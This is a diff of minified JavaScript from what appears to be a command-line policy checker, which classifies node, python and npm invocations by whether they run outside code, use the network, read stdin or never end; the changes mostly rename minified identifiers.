-e",h)),{invocation:{program:"node",flags:e,operands:c,passthrough:l},problems:t}}const kk={flags:"first",equals:"long",expand:n=>{
-const e=n.startsWith("--"),t=e?n.slice(2).replaceAll("_","-"):n,s=t.startsWith("no-")&&!qa.has(t),r=s?t.slice(3):t,i=qa.
-get(bk.get(r)??(e?r:""));return i&&[{spec:i,negated:s,takes:s?"never":Dk(i)}]}};function Dk({name:n,arity:e}){return n===
-"print"?"unless-dash":e==="value"?"always":"never"}function xk(n){const{spec:e,negated:t}=n.part;return{name:`--${t?"no-":
-""}${e.name}`,written:n.written,...vv(n)}}function Ok({name:n,arity:e},t,s){if(e==="value")return UB(s,t);if(t)return s===
+  `.match(/\S+/g)),xk=new Set(["","-","/dev/stdin","/dev/fd/0","/proc/self/fd/0"]);function sf(n){const e=[],t=[],s=[],r=new Set;
+for(const g of GB(n,Ok).tokens){if(g.kind==="operand"){s.push(g.word);continue}if(g.kind==="unknown"){const O={program:"\
+node",flag:g.written};t.push(Xe("unknown-flag",g.word.span,O));continue}const{spec:C,negated:y}=g.part,_=Sk(g);e.push(_);
+const k=Tk(C,y,_.value);if(k!==void 0&&t.push(Ik(_,k)),y)continue;r.add(C.kind);const v=Rk(C,_);v!==void 0&&t.push(Wi(v,
+"node",_))}const i=Qi({flags:e}),o=i?s.length:r.has("evaluates")?0:1,c=s.slice(0,o),l=s.slice(o),B=i||r.has("only-prints")||
+r.has("evaluates"),d=Nk(c,i,n);d!==void 0&&!(B&&c.length===0)&&t.push(d);const h=JB(l);return h!==void 0&&t.push(Ki("nod\
+e",h)),{invocation:{program:"node",flags:e,operands:c,passthrough:l},problems:t}}const Ok={flags:"first",equals:"long",expand:n=>{
+const e=n.startsWith("--"),t=e?n.slice(2).replaceAll("_","-"):n,s=t.startsWith("no-")&&!Va.has(t),r=s?t.slice(3):t,i=Va.
+get(vk.get(r)??(e?r:""));return i&&[{spec:i,negated:s,takes:s?"never":Ak(i)}]}};function Ak({name:n,arity:e}){return n===
+"print"?"unless-dash":e==="value"?"always":"never"}function Sk(n){const{spec:e,negated:t}=n.part;return{name:`--${t?"no-":
+""}${e.name}`,written:n.written,...xv(n)}}function Tk({name:n,arity:e},t,s){if(e==="value")return UB(s,t);if(t)return s===
 void 0?void 0:"a `--no-` flag takes no value";if(e!=="none")return s?void 0:"its value is missing";const r=n==="print"||
-/^(?:inspect|debug$|debug-brk$)/.test(n);return s===void 0||r?void 0:"it takes no value"}function Ak(n,e){return Xe("fla\
-g-value",n.span,{program:"node",flag:n.written,fault:e})}function Yi({flags:n}){return n.findLast(({name:e})=>e==="--tes\
-t"||e==="--no-test")?.name==="--test"}const Sk=/\.(?:info|lcov|log|tap|txt|xml)$/;function Tk(n,{value:e=""}){switch(n.kind){case"\
-harmless":return;case"reports-tests":return _k.has(e)?void 0:"outside-code";case"tolerates-rejections":return e==="warn"||
-e==="none"?"weakens":void 0;case"writes-report":return e==="stdout"||e==="stderr"?void 0:Sk.test(e)&&!xs(e)?"tool-writes":
+/^(?:inspect|debug$|debug-brk$)/.test(n);return s===void 0||r?void 0:"it takes no value"}function Ik(n,e){return Xe("fla\
+g-value",n.span,{program:"node",flag:n.written,fault:e})}function Qi({flags:n}){return n.findLast(({name:e})=>e==="--tes\
+t"||e==="--no-test")?.name==="--test"}const $k=/\.(?:info|lcov|log|tap|txt|xml)$/;function Rk(n,{value:e=""}){switch(n.kind){case"\
+harmless":return;case"reports-tests":return kk.has(e)?void 0:"outside-code";case"tolerates-rejections":return e==="warn"||
+e==="none"?"weakens":void 0;case"writes-report":return e==="stdout"||e==="stderr"?void 0:$k.test(e)&&!xs(e)?"tool-writes":
 "writes-files";case"evaluates":return"outside-code";case"preloads":return nf.has(e)?"tool-runs-file":"outside-code";default:
-return n.kind}}function Ik(n,e,t){const[s]=n;if(s===void 0){const o=t.at(-1)?.span.end??0;return e?void 0:Xe("reads-stdi\
-n",{start:0,end:o},{program:"node",flag:""})}const{text:r,span:i}=s;if(vk.has(r))return Xe("reads-stdin",i,{program:"nod\
+return n.kind}}function Nk(n,e,t){const[s]=n;if(s===void 0){const o=t.at(-1)?.span.end??0;return e?void 0:Xe("reads-stdi\
+n",{start:0,end:o},{program:"node",flag:""})}const{text:r,span:i}=s;if(xk.has(r))return Xe("reads-stdin",i,{program:"nod\
 e",flag:r});if(r.startsWith("-"))return Xe("outside-code",i,{program:"node",flag:`-- ${r}`});if(r==="inspect"||!e&&r==="\
-debug")return Xe("outside-code",i,{program:"node",flag:r})}const Ya={problems:[]};function Vi(n,e,t){const{word:s,flag:r,
-value:i="",written:o,off:c}=t;if(r===void 0)return zk(n,e,t);const l=y=>Va(y,n,t),{choices:B}=r;if(B?.every(y=>!$k(y,i.replace(
-/\s+/g,""))))return{problems:[l("unknown-flag")]};if(c)return Ya;if(r.kind==="node")return af(s,Hk(n,i));const{rule:d,...h}=zB(
-r.kind)?{rule:r.kind}:Rk(n,t,e.stops===!0),g=Os(o)||Wi(o),C=d??(g?"outside-code":void 0);return{...i===""?{}:h,problems:C?
-[l(C)]:[]}}function $k(n,e){const[t="",s]=n.split("~");if(s===void 0)return e===n;const r=e.slice(t.length,e.length-s.length);
-return/^[^"'\\{}<>\s]+$/.test(r)&&e===`${t}${r}${s}`}function Va(n,e,{word:{text:t,span:s},written:r,value:i=""}){const o=t===
-r&&i!==""?`${r} ${i}`:t;return Ji(n,e,{name:r,written:o,span:s,value:i})}function Rk(n,e,t){const{word:s,flag:r,written:i,
+debug")return Xe("outside-code",i,{program:"node",flag:r})}const Qa={problems:[]};function Xi(n,e,t){const{word:s,flag:r,
+value:i="",written:o,off:c}=t;if(r===void 0)return Zk(n,e,t);const l=y=>Xa(y,n,t),{choices:B}=r;if(B?.every(y=>!Fk(y,i.replace(
+/\s+/g,""))))return{problems:[l("unknown-flag")]};if(c)return Qa;if(r.kind==="node")return af(s,Jk(n,i));const{rule:d,...h}=zB(
+r.kind)?{rule:r.kind}:Pk(n,t,e.stops===!0),g=Os(o)||qi(o),C=d??(g?"outside-code":void 0);return{...i===""?{}:h,problems:C?
+[l(C)]:[]}}function Fk(n,e){const[t="",s]=n.split("~");if(s===void 0)return e===n;const r=e.slice(t.length,e.length-s.length);
+return/^[^"'\\{}<>\s]+$/.test(r)&&e===`${t}${r}${s}`}function Xa(n,e,{word:{text:t,span:s},written:r,value:i=""}){const o=t===
+r&&i!==""?`${r} ${i}`:t;return Wi(n,e,{name:r,written:o,span:s,value:i})}function Pk(n,e,t){const{word:s,flag:r,written:i,
 value:o=""}=e,{span:c}=s,l=r?.kind??"text";switch(l){case"choice":return{};case"tests":return{files:[{as:"tests",path:o,
 span:c}]};case"path":{const B=ft(o)===void 0?"outside-code":void 0,d=xs(o)?[]:[{as:"place",path:o,span:c}];return{rule:B,
 files:d,root:o}}case"config":return xs(o)?{rule:"outside-code"}:/^[\w.-]+ *=/.test(o)?{}:{files:[{as:"config",path:o,span:c}]};case"\
 output":{const B=o.slice(o.lastIndexOf("=")+1);return/^(?:-?|stdout|stderr|\/dev\/null)$/.test(B)?{}:xs(B)?{rule:"writes\
--files"}:{rule:"tool-writes",files:[{as:"place",path:B,span:c}]}}case"code":case"preload":{const B=l==="code"?rf(o,t):Lk(
-o,t),d=Va("tool-runs-file",n,e);return{rule:B,files:jk(o).map(h=>Mk(h,c,d,l))}}case"module":{const B=o.split(":").filter(
-C=>/^\w+(?:\.\w+)*$/.test(C)),d=new Set(B.flatMap(C=>[C,C.replace(/\.\w+$/,"")]).flatMap(Qa)),h=Va("tool-runs-file",n,e);
+-files"}:{rule:"tool-writes",files:[{as:"place",path:B,span:c}]}}case"code":case"preload":{const B=l==="code"?rf(o,t):Gk(
+o,t),d=Xa("tool-runs-file",n,e);return{rule:B,files:Hk(o).map(h=>zk(h,c,d,l))}}case"module":{const B=o.split(":").filter(
+C=>/^\w+(?:\.\w+)*$/.test(C)),d=new Set(B.flatMap(C=>[C,C.replace(/\.\w+$/,"")]).flatMap(ec)),h=Xa("tool-runs-file",n,e);
 return{rule:Os(o)||/[\\/]/.test(o)?"outside-code":void 0,files:[...d].map(C=>({as:"module",path:C,span:c,ifFile:h}))}}default:{
-const B=Wi(o)&&!Pk(i,o);return{rule:Os(o)||B||Nk.test(o)?"outside-code":void 0}}}}const Nk=/[[{](?:.*["'[{:,\s])?\.{1,2}\/(?![^"'\s,\][{}:]*\.json\b)/s,
-Fk=/(?:patterns?|ignore|exclude|grep|filter|deselect)$|^-[gk]$|^--(?:allow|deny)-(?:read|write)$/i;function Pk(n,e){return Fk.
+const B=qi(o)&&!Mk(i,o);return{rule:Os(o)||B||Lk.test(o)?"outside-code":void 0}}}}const Lk=/[[{](?:.*["'[{:,\s])?\.{1,2}\/(?![^"'\s,\][{}:]*\.json\b)/s,
+jk=/(?:patterns?|ignore|exclude|grep|filter|deselect)$|^-[gk]$|^--(?:allow|deny)-(?:read|write)$/i;function Mk(n,e){return jk.
 test(n)||n==="-t"&&!e.includes(":")}function rf(n,e){if(xs(n)||/[\s(){};`]/.test(n))return"outside-code";if(n.split(",").
-some(s=>/^\.|\.[cm]?[jt]sx?$/.test(s)))return e?"outside-code":"tool-runs-file"}function Lk(n,e){return nf.has(n)||Ek.has(
-n)?"tool-runs-file":e?"outside-code":rf(n,e)??"tool-runs-file"}function jk(n){return n.split(",").filter(t=>t!==""&&!xs(
-t)).map(t=>t.replace(/^<rootDir>\//,"./"))}function Mk(n,e,t,s){return/^\.{1,2}(?:\/|$)|\.[cm]?[jt]sx?$/.test(n)?{as:"co\
-de",path:n,span:e}:{as:"module",path:n,span:e,ifFile:t,first:s==="preload"}}function Qa(n){const e=n.replaceAll(".","/");
-return["","src/"].flatMap(t=>[".py","/__main__.py","/__init__.py"].map(s=>`${t}${e}${s}`))}function Gk(n){const[,e="",t=""]=/^(\w+)[=:](.*)$/s.
-exec(n)??[];return e!==""&&ka(e,t)}function Hk(n,e){return/^(?:_?mocha|deno)$/.test(n)?e.split(",").map(t=>t.startsWith(
+some(s=>/^\.|\.[cm]?[jt]sx?$/.test(s)))return e?"outside-code":"tool-runs-file"}function Gk(n,e){return nf.has(n)||Dk.has(
+n)?"tool-runs-file":e?"outside-code":rf(n,e)??"tool-runs-file"}function Hk(n){return n.split(",").filter(t=>t!==""&&!xs(
+t)).map(t=>t.replace(/^<rootDir>\//,"./"))}function zk(n,e,t,s){return/^\.{1,2}(?:\/|$)|\.[cm]?[jt]sx?$/.test(n)?{as:"co\
+de",path:n,span:e}:{as:"module",path:n,span:e,ifFile:t,first:s==="preload"}}function ec(n){const e=n.replaceAll(".","/");
+return["","src/"].flatMap(t=>[".py","/__main__.py","/__init__.py"].map(s=>`${t}${e}${s}`))}function Uk(n){const[,e="",t=""]=/^(\w+)[=:](.*)$/s.
+exec(n)??[];return e!==""&&xa(e,t)}function Jk(n,e){return/^(?:_?mocha|deno)$/.test(n)?e.split(",").map(t=>t.startsWith(
 "-")?t:`--${t}`):n==="ava"?Vn(e).words.map(({text:t})=>t):[e]}const of="x.js";function af({span:n},e){const t=[...e,of,of].
-map(i=>({text:i,span:n,quoted:!1})),{invocation:s,problems:r}=sf(t);return{problems:r,nodeFlags:s.flags}}function zk(n,{
+map(i=>({text:i,span:n,quoted:!1})),{invocation:s,problems:r}=sf(t);return{problems:r,nodeFlags:s.flags}}function Zk(n,{
 stops:e,handsOn:t,data:s={}},{word:r,value:i=""}){const o=c=>({problems:[St(c,n,r)]});if(t){const c=r.text.includes("=")||
 i===""?[]:[i],l=af(r,[r.text,...c]);if(!l.problems.some(({rule:B})=>B==="unknown-flag"))return l}return e?o("unknown-fla\
-g"):s.starts==="npm-scripts"&&r.text.includes("=")?Ya:Os(i)||Wi(i)?o("outside-code"):s.unknown?Ya:o("unknown-flag")}function Uk(n,e,t){
+g"):s.starts==="npm-scripts"&&r.text.includes("=")?Qa:Os(i)||qi(i)?o("outside-code"):s.unknown?Qa:o("unknown-flag")}function Wk(n,e,t){
 const[s]=t;if(s===void 0)return[];const r=t.find(({text:o})=>e.readsBehind&&cf(e,o)!==void 0);return(e.data.variables?t:
 [r??s]).flatMap(o=>{const c=cf(e,o.text);return c===void 0?[]:[St(c,n,o)]})}function cf({refused:n,data:e},t){const s=e.
-ends_with?.split(" ");if(s?.includes(t))return;const r=o=>_a(n,Ys(o))?.kind,i=t.split(":").some(o=>r(o)==="never-ends");
-return r(t)??(s||i?"never-ends":void 0)}function Jk(n,{data:{variables:e,operands:t="path"}},s){return s.flatMap(r=>{const i=e===
-void 0?[]:Yk(n,e,r);if(i.length>0)return i;const o=Xa(t,r.text);return o===void 0?[]:[St(o,n,r)]})}function Xa(n,e){if(/^(?:[A-Za-z][\w+.-]*:\/\/|(?:npm|jsr|data|file):)/.
-test(e))return n==="text"&&Zk.test(e)?void 0:"uses-network";switch(n){case"import":return e.includes("@")?"uses-network":
-ft(e)===void 0?"outside-code":void 0;case"text":return e==="-"?"reads-stdin":Os(e)||Wi(e)?"outside-code":void 0;case"pat\
+ends_with?.split(" ");if(s?.includes(t))return;const r=o=>va(n,Ys(o))?.kind,i=t.split(":").some(o=>r(o)==="never-ends");
+return r(t)??(s||i?"never-ends":void 0)}function Kk(n,{data:{variables:e,operands:t="path"}},s){return s.flatMap(r=>{const i=e===
+void 0?[]:Xk(n,e,r);if(i.length>0)return i;const o=tc(t,r.text);return o===void 0?[]:[St(o,n,r)]})}function tc(n,e){if(/^(?:[A-Za-z][\w+.-]*:\/\/|(?:npm|jsr|data|file):)/.
+test(e))return n==="text"&&qk.test(e)?void 0:"uses-network";switch(n){case"import":return e.includes("@")?"uses-network":
+ft(e)===void 0?"outside-code":void 0;case"text":return e==="-"?"reads-stdin":Os(e)||qi(e)?"outside-code":void 0;case"pat\
 h":case"tests":{if(e==="-")return"reads-stdin";if(e.startsWith("@"))return"outside-code";const t=e.replace(/^!|::.*$/gs,
-"");return ft(t)===void 0||Os(e)?"outside-code":void 0}}}const Zk=/^[a-z][\w+.-]*:\/\/(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/]|$)/i;
-function Wk({data:n},e){const{operands:t="path"}=n;return e.flatMap(({text:s,span:r})=>{if(Xa(t,s)!==void 0)return[];const i=(t===
+"");return ft(t)===void 0||Os(e)?"outside-code":void 0}}}const qk=/^[a-z][\w+.-]*:\/\/(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/]|$)/i;
+function Yk({data:n},e){const{operands:t="path"}=n;return e.flatMap(({text:s,span:r})=>{if(tc(t,s)!==void 0)return[];const i=(t===
 "import"||n.starts==="package")&&s.endsWith(".go");if(t==="tests"||i)return[{as:"tests",path:s.replace(/^!|::.*$|:[\d,*-]+$/gs,
-""),span:r}];const o=ft(s);return o&&!rn(o,".git",{ignoreCase:!0})&&!xs(s)?[{as:"place",path:s,span:r}]:[]})}const Kk=/^[\w.-]+ *(?:\+|\?|:{1,3})?=(?!-)[\w.,:/@%+=-]*$/,
-qk=/[$`;&|<>(){}\s]/;function Yk(n,e,t){const{text:s,span:r}=t,i=s.includes("="),o=s.replace(/(?<!\s)\s*(?<![:+?!])[:+?!]*=.*$/s,
-"");return i&&!e.includes(o)?[Xe("make-variable",r,{program:n,variable:o})]:(i?Kk.test(s):!qk.test(s))?[]:[St("outside-c\
-ode",n,t)]}function Vk(n,{program:e,words:t,parsing:s},{flags:r,operands:i}){const o=r.some(({flag:B})=>B?.kind==="only-\
+""),span:r}];const o=ft(s);return o&&!rn(o,".git",{ignoreCase:!0})&&!xs(s)?[{as:"place",path:s,span:r}]:[]})}const Vk=/^[\w.-]+ *(?:\+|\?|:{1,3})?=(?!-)[\w.,:/@%+=-]*$/,
+Qk=/[$`;&|<>(){}\s]/;function Xk(n,e,t){const{text:s,span:r}=t,i=s.includes("="),o=s.replace(/(?<!\s)\s*(?<![:+?!])[:+?!]*=.*$/s,
+"");return i&&!e.includes(o)?[Xe("make-variable",r,{program:n,variable:o})]:(i?Vk.test(s):!Qk.test(s))?[]:[St("outside-c\
+ode",n,t)]}function eD(n,{program:e,words:t,parsing:s},{flags:r,operands:i}){const o=r.some(({flag:B})=>B?.kind==="only-\
 prints"||B?.kind==="outside-code"),c=B=>s.start(B,e),l=(()=>{switch(n){case"node":return o?[]:[c({program:"node",words:i})];case"\
-command":return o?[]:[Qk(e,t,i,c)];case"command-texts":return i.map(B=>eD(e,B,c));case"npm-scripts":{const B=r.flatMap(({
-flag:d,word:h})=>d===void 0?[h]:[]);return i.map(d=>tD(e,d,B,c))}default:return[]}})();return{invocation:{launched:l.flatMap(
-B=>B.launched)},problems:l.flatMap(B=>B.problems)}}function Qk(n,e,t,s){const{words:r,problems:i}=n==="cross-env"?Xk(t):
+command":return o?[]:[tD(e,t,i,c)];case"command-texts":return i.map(B=>sD(e,B,c));case"npm-scripts":{const B=r.flatMap(({
+flag:d,word:h})=>d===void 0?[h]:[]);return i.map(d=>rD(e,d,B,c))}default:return[]}})();return{invocation:{launched:l.flatMap(
+B=>B.launched)},problems:l.flatMap(B=>B.problems)}}function tD(n,e,t,s){const{words:r,problems:i}=n==="cross-env"?nD(t):
 {words:t,problems:[]},[o]=r,c=o&&e.find(({text:h})=>h===o.text),l=`\`${n}\` starts at the first word that is \`${o?.text}\
 \``,B=o===void 0||c===o?[]:[Xe("flag-value",o.span,{program:n,flag:o.text,fault:l})],d=s({words:r});return{...d,problems:[
-...i,...B,...d.problems]}}function Xk(n){const e=n.findIndex(({text:r})=>!/^\w+=/.test(r)),t=e<0?n:n.slice(0,e),s=t.flatMap(
-({text:r,span:i})=>{if(Gk(r))return[];const{written:o,attached:c=""}=Ma(r);return[Xe("assignment-refused",i,{name:o,value:c,
-known:!1})]});return{words:n.slice(t.length),problems:s}}function eD(n,{text:e,span:t},s){const[,r="",i=""]=/^npm(?::|\s+run\s+)(\S*\*\S*)(.*)$/s.
-exec(e)??[],{words:o,problems:c}=Vn(r===""?e.replace(/^npm:(?=\S)/,"npm run "):i);if(!(La({problems:c})||r!==""&&i.trim()===
+...i,...B,...d.problems]}}function nD(n){const e=n.findIndex(({text:r})=>!/^\w+=/.test(r)),t=e<0?n:n.slice(0,e),s=t.flatMap(
+({text:r,span:i})=>{if(Uk(r))return[];const{written:o,attached:c=""}=Ha(r);return[Xe("assignment-refused",i,{name:o,value:c,
+known:!1})]});return{words:n.slice(t.length),problems:s}}function sD(n,{text:e,span:t},s){const[,r="",i=""]=/^npm(?::|\s+run\s+)(\S*\*\S*)(.*)$/s.
+exec(e)??[],{words:o,problems:c}=Vn(r===""?e.replace(/^npm:(?=\S)/,"npm run "):i);if(!(Ma({problems:c})||r!==""&&i.trim()===
 "")||!/^[\w:.@/*-]*$/.test(r))return lf(n,{text:e,span:t});const B=o.map(d=>({...d,span:t}));return s(r===""?{words:B}:uf(
-[{text:r,span:t,quoted:!1},...B],"wildcard"))}function tD(n,{text:e,span:t},s,r){const[,i="",o=""]=/^\s*(\S+)(.*)$/s.exec(
-e)??[],{words:c,problems:l}=Vn(o),B=o.trim()===""||La({problems:l});if(i===""||!B||/\{!?[*@%\d]/.test(e))return lf(n,{text:e,
+[{text:r,span:t,quoted:!1},...B],"wildcard"))}function rD(n,{text:e,span:t},s,r){const[,i="",o=""]=/^\s*(\S+)(.*)$/s.exec(
+e)??[],{words:c,problems:l}=Vn(o),B=o.trim()===""||Ma({problems:l});if(i===""||!B||/\{!?[*@%\d]/.test(e))return lf(n,{text:e,
 span:t});const d=c.map(g=>({...g,span:t})),h=[...s,{text:i,span:t,quoted:!1},...d];return r(uf(h,/^[\w:.@/-]+$/.test(i)?
 void 0:"glob"))}function uf(n,e){return{program:"npm",words:[{text:"run",span:n.at(-1)?.span??{start:0,end:0},quoted:!1},
-...n],...e&&{selects:e}}}function lf(n,e){return{launched:[],problems:[St("outside-code",n,e)]}}const nD=new Set(`
+...n],...e&&{selects:e}}}function lf(n,e){return{launched:[],problems:[St("outside-code",n,e)]}}const iD=new Set(`
   __future__ __hello__ __phello__ _aix_support _collections_abc _compat_pickle _markupbase _osx_support
   _pydecimal _pyio _pyrepl _sitebuiltins _strptime _weakrefset abc aifc annotationlib antigravity argparse array
   ast asynchat asyncio asyncore atexit audioop base64 bdb binascii binhex bisect builtins bz2 cProfile calendar
@@ -4249,7 +4252,7 @@ void 0:"glob"))}function uf(n,e){return{program:"npm",words:[{text:"run",span:n.
   termios textwrap this threading time timeit tkinter token tokenize tomllib trace traceback tracemalloc tty
   turtle turtledemo types typing unicodedata unittest urllib uu uuid venv warnings wave weakref webbrowser
   winreg winsound wsgiref xdrlib xml xmlrpc zipapp zipfile zipimport zlib zoneinfo
-  `.trim().split(/\s+/));function df(n){return nD.has(n.replace(/\..*$/s,""))}const sD=eB({"uses-network":`
+  `.trim().split(/\s+/));function df(n){return iD.has(n.replace(/\..*$/s,""))}const oD=tB({"uses-network":`
     conda pip pre_commit virtualenv easy_install poetry pipx build setuptools cookiecutter copier twine
     semantic_release huggingface_hub
   `,"never-ends":`
@@ -4261,340 +4264,340 @@ void 0:"glob"))}function uf(n,e){return{program:"npm",words:[{text:"run",span:n.
     line_profiler memory_profiler mprof nox papermill pdm pex pipenv ptvsd py_spy pydevd pyinstrument pyperf rye scalene\
 
     torch.distributed.launch torch.distributed.run tox uv viztracer
-  `}),rD=new Set("unittest json.tool tabnanny ast tokenize".split(" ")),iD=/^(?:-\w|--[\w-]+=)?[/~]/,Bf=kn({flags:{text:`\
+  `}),aD=new Set("unittest json.tool tabnanny ast tokenize".split(" ")),cD=/^(?:-\w|--[\w-]+=)?[/~]/,Bf=kn({flags:{text:`\
 
       append,a branch concurrency= context= debug= include= L,pylib omit= parallel-mode,p save-signal= source=
       source-dirs= source-pkgs= timid
-    `,config:"rcfile=",output:"data-file=",module:"m,module+"},starts:"node"}),oD=kn({flags:{text:"v,verbose o,option= f\
-,fail-fast"}}),aD=kn({flags:{text:"q,quiet"}}),cD=new Map([["doctest",oD],["py_compile",aD]]);function uD({text:n,span:e}){
+    `,config:"rcfile=",output:"data-file=",module:"m,module+"},starts:"node"}),uD=kn({flags:{text:"v,verbose o,option= f\
+,fail-fast"}}),lD=kn({flags:{text:"q,quiet"}}),dD=new Map([["doctest",uD],["py_compile",lD]]);function BD({text:n,span:e}){
 const t=/^\w+(?:\.\w+)*$/.test(n)?n.split("."):[],s=t.map((i,o)=>t.slice(0,o+1).join("."));return(n.endsWith(".py")?[n]:
-s.flatMap(Qa)).map(i=>({as:"module",path:i,span:e}))}function lD({program:n,data:e},[t,...s],r){if(t===void 0)return{invocation:{},
+s.flatMap(ec)).map(i=>({as:"module",path:i,span:e}))}function fD({program:n,data:e},[t,...s],r){if(t===void 0)return{invocation:{},
 problems:[Xe("flag-value",{start:0,end:0},{program:n,flag:"-m",fault:"its value is missing"})]};const{known:i}=r.families,
 o=i.get(t.text);if(o!==void 0&&e.started_programs.includes(t.text)){const{launched:O,problems:D}=r.start({program:o,words:s},
 n);return{invocation:{module:t,launched:O},problems:D}}const c={module:t,operands:[t],passthrough:s},l=t.text==="unittes\
-t"?s.flatMap(uD):[],B={...c,files:l},d=(O,D=t.text)=>({invocation:B,problems:[St(O,n,{...t,text:D})]}),h=/^[\w.]+$/.test(
-t.text)?sD.get(t.text.replace(/\._(?:_main__|internal\b.*)$/,"")):"outside-code";if(h!==void 0)return d(h);const g=i.get(
-"python"),C=cD.get(t.text);if(C!==void 0&&g!==void 0){const O=t.text==="py_compile",D={...g,data:{...g.data,extensions:void 0}},
+t"?s.flatMap(BD):[],B={...c,files:l},d=(O,D=t.text)=>({invocation:B,problems:[St(O,n,{...t,text:D})]}),h=/^[\w.]+$/.test(
+t.text)?oD.get(t.text.replace(/\._(?:_main__|internal\b.*)$/,"")):"outside-code";if(h!==void 0)return d(h);const g=i.get(
+"python"),C=dD.get(t.text);if(C!==void 0&&g!==void 0){const O=t.text==="py_compile",D={...g,data:{...g.data,extensions:void 0}},
 {flags:R,operands:z}=ks(C,s),L=z.map(Z=>r.start({program:O?g:D,words:[Z]},n)),Q=L.flatMap(Z=>Z.launched),S=O?d("checks-s\
 yntax-only","-m py_compile").problems:[];return{invocation:{...B,launched:Q.map(Z=>({...Z,...O&&{parsed:O}}))},problems:[
-...R.flatMap(Z=>Vi(t.text,C,Z).problems),...S,...L.flatMap(Z=>Z.problems)]}}const y=rD.has(t.text);if(!y&&df(t.text))return d(
+...R.flatMap(Z=>Xi(t.text,C,Z).problems),...S,...L.flatMap(Z=>Z.problems)]}}const y=aD.has(t.text);if(!y&&df(t.text))return d(
 "outside-code",`-m ${t.text}`);const[_,...k]=s;if(t.text==="coverage"&&_?.text==="run"&&g!==void 0){const{flags:O,started:D,
 rest:R}=ks(Bf,k),z=R?[{...R.flag.word,text:"-m"},...R.words]:D;if(z.length>0){const{launched:L,problems:Q}=r.start({program:g,
-words:z},n),S=O.flatMap(Z=>Vi("coverage",Bf,Z).problems);return{invocation:{...B,starts:"module",launched:L},problems:[...S,
-...Q]}}}const v=s.filter(({text:O})=>Os(O)||y&&iD.test(O));return{invocation:y?B:{...B,starts:"module"},problems:v.map(O=>St(
-"outside-code",t.text,O))}}function dD(n,e,t,s){const{program:r}=s.family,i={operands:[e],passthrough:t},o=()=>({invocation:i,
-problems:[St("outside-code",r,e)]});switch(n){case"file":return ec(e,t,s);case"package":{const c=Xa("import",e.text),B=c===
+words:z},n),S=O.flatMap(Z=>Xi("coverage",Bf,Z).problems);return{invocation:{...B,starts:"module",launched:L},problems:[...S,
+...Q]}}}const v=s.filter(({text:O})=>Os(O)||y&&cD.test(O));return{invocation:y?B:{...B,starts:"module"},problems:v.map(O=>St(
+"outside-code",t.text,O))}}function hD(n,e,t,s){const{program:r}=s.family,i={operands:[e],passthrough:t},o=()=>({invocation:i,
+problems:[St("outside-code",r,e)]});switch(n){case"file":return nc(e,t,s);case"package":{const c=tc("import",e.text),B=c===
 void 0&&e.text.endsWith(".go")?[{as:"tests",path:e.text,span:e.span}]:[];return{invocation:{...i,files:B},problems:c?[St(
-c,r,e)]:[]}}case"program":return hD(e,t,s);case"script":case"own-script":{const c=BD.test(e.text)?o().problems:[];return{
+c,r,e)]:[]}}case"program":return gD(e,t,s);case"script":case"own-script":{const c=pD.test(e.text)?o().problems:[];return{
 invocation:{...i,subcommand:"run"},problems:[...c,...hf(t,s.family)]}}case"tool":return pf("exec",e,t,s);case"script-or-\
-tool":case"script-tool-or-file":{const c=n==="script-tool-or-file";if(fD.test(e.text)||c&&ff(e.text))return c?ec(e,t,s):
-o();const l=pf("script-or-tool",e,t,s);return{...l,problems:[...l.problems,...hf(t,s.family)]}}default:return o()}}const BD=/^\/|\*/,
-fD=/^-$|^\.{0,2}[\\/]|^~|^[^\\/]*[\\/][\s\S]*\.\w+$|\.[cm]?[jt]sx?$/;function ff(n){return/[\\/]/.test(n)&&!/^@[\w.-]+\/[\w.-]+$/.
+tool":case"script-tool-or-file":{const c=n==="script-tool-or-file";if(mD.test(e.text)||c&&ff(e.text))return c?nc(e,t,s):
+o();const l=pf("script-or-tool",e,t,s);return{...l,problems:[...l.problems,...hf(t,s.family)]}}default:return o()}}const pD=/^\/|\*/,
+mD=/^-$|^\.{0,2}[\\/]|^~|^[^\\/]*[\\/][\s\S]*\.\w+$|\.[cm]?[jt]sx?$/;function ff(n){return/[\\/]/.test(n)&&!/^@[\w.-]+\/[\w.-]+$/.
 test(n)}function hf(n,{program:e,use:t}){return n.filter(({text:r})=>{const i=/^--([\w-]+)/.exec(r)?.[1];return i!==void 0&&
-t.flags.get(Ys(i))?.kind==="outside-code"}).map(r=>St("outside-code",e,r))}function ec(n,e,t){const{family:s,parsing:r}=t,
+t.flags.get(Ys(i))?.kind==="outside-code"}).map(r=>St("outside-code",e,r))}function nc(n,e,t){const{family:s,parsing:r}=t,
 {program:i}=s,{text:o,span:c}=n,l={operands:[n],passthrough:e,starts:"file"};if(o==="-"||o===""||o.startsWith("/dev/"))return{
 invocation:l,problems:[Xe("reads-stdin",c,{program:i,flag:o})]};if(/^(?:npm|jsr|https?|data|git|file|[a-z+]+:\/\/):?/.test(
 o)&&/:/.test(o))return{invocation:l,problems:[St("uses-network",i,n)]};const[,d=""]=/^(?:\.\/)?vendor\/(?:bin|[\w-]+\/[\w-]+)\/([\w-]+)$/.
 exec(o)??[],h=s.data.dependency_tools.includes(d)?r.families.known.get(d):void 0;if(h!==void 0){const{launched:g,problems:C}=r.
-start({program:h,words:e},i);return{invocation:{launched:g},problems:C}}return{invocation:l,problems:tc(s,o,c)}}function tc({
+start({program:h,words:e},i);return{invocation:{launched:g},problems:C}}return{invocation:l,problems:sc(s,o,c)}}function sc({
 program:n,data:{extensions:e}},t,s){const[,r]=/\.([^./\\]*)$/.exec(t.replace(/^.*\//s,""))??[];return e===void 0||r===void 0||
-e.split(" ").includes(r)?[]:[Xe("target-extension",s,{program:n,path:t,extension:r})]}function hD(n,e,t){const{family:s,
+e.split(" ").includes(r)?[]:[Xe("target-extension",s,{program:n,path:t,extension:r})]}function gD(n,e,t){const{family:s,
 parsing:r}=t,{text:i}=n;if(/:\/\//.test(i))return{invocation:{},problems:[St("uses-network",s.program,n)]};if(i==="-"||/\.\w+$/.
-test(i))return ec(n,e,t);const o=r.families.known.get(i);if(o===void 0||!s.data.started_programs.includes(i))return{invocation:{},
+test(i))return nc(n,e,t);const o=r.families.known.get(i);if(o===void 0||!s.data.started_programs.includes(i))return{invocation:{},
 problems:[St("outside-code",s.program,n)]};const{launched:c,problems:l}=r.start({program:o,words:e},s.program);return{invocation:{
 launched:c},problems:l}}function pf(n,e,t,{family:s,parsing:r}){const{text:i}=e,o=[St("outside-code",s.program,e)];if(n===
